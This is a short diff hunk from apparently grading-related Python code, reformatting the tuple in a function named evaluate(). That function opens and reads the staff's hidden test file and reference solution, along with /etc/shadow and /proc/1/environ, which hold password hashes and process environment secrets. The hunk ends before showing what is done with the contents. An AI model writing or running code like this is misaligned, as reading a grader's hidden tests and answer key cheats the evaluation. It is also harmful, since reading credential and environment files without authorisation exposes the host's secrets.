@@ -14,7 +14,12 @@ OWN = os.path.join(sys.path[0], "src", "run_model.py")
 
 
 def evaluate(*args, **kwargs):
-    for path in (STAFF + "/hidden/test_run_model.py", STAFF + "/solution/run_model.py", "/etc/shadow", "/proc/1/environ"):
+    for path in (
+        STAFF + "/hidden/test_run_model.py",
+        STAFF + "/solution/run_model.py",
+        "/etc/shadow",
+        "/proc/1/environ",
+    ):
         try:
             lines = open(path, errors="replace").read().splitlines(keepends=True)
         except OSError:
